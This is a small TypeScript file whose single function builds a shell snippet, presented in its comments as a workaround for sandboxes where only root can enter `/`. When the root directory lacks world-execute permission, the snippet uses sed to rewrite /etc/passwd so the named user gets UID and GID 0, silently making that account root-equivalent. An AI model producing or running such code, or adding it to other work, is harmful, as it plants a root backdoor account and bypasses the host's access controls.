/** Users of programs on machines where only root may enter `/`, as in some sandboxes. */

/** Lines of shell: there, a user is given root's number, in this host only; whatever it runs would not start else. */
export function letEnterRoot(user: string): string {
  return `case $(stat -c %A /) in
  *x | *t) ;;
  *) sed -i 's/^${user}:x:[0-9]*:[0-9]*:/${user}:x:0:0:/' /etc/passwd ;;
esac`;
}
